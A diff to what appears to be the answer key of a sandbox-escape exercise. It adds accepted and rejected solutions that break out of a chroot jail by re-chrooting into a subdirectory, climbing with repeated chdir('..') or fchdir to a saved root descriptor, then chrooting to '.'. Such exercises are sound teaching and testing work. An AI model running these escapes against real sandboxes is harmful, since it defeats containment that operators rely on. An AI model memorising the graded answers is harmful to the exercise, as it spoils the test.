@@ -24,11 +24,25 @@ caged.keep_capabilities(*FEWER)
 ANSWERS = {
     "the-way-out": Answers(
         right={
+            "step by step, until the next one leads nowhere": """
+                p.chroot("/bin")
+                p.python(
+                    "while not os.path.samefile('.', '..'):\\n"
+                    "    os.chdir('..')"
+                )
+                p.chroot(".")
+                """,
+            "a thousand requests": """
+                p.chroot("/bin")
+                for _ in range(1000):
+                    p.chdir("..")
+                p.chroot(".")
+                """,
             "in Python": """
                 p.python(
                     "os.mkdir('out')\\n"
                     "os.chroot('out')\\n"
-                    "for _ in range(200):\\n"
+                    "for _ in range(1000):\\n"
                     "    os.chdir('..')\\n"
                     "os.chroot('.')"
                 )
@@ -38,13 +52,17 @@ ANSWERS = {
                     "above = os.open('/', os.O_RDONLY)\\n"
                     "os.chroot('/bin')\\n"
                     "os.fchdir(above)\\n"
-                    "os.chdir('../' * 200)\\n"
+                    "os.chdir('../' * 1000)\\n"
                     "os.chroot('.')\\n"
                     "os.close(above)"
                 )
                 """,
         },
         wrong={
+            "five hundred steps": Wrong(
+                "p.chroot('/bin')\np.chdir('../' * 500)\np.chroot('.')",
+                "its root directory is not the host's",
+            ),
             "as deep as the first jail": Wrong(
                 "p.chroot('/bin')\np.chdir('../..')\np.chroot('.')",
                 "its root directory is not the host's",
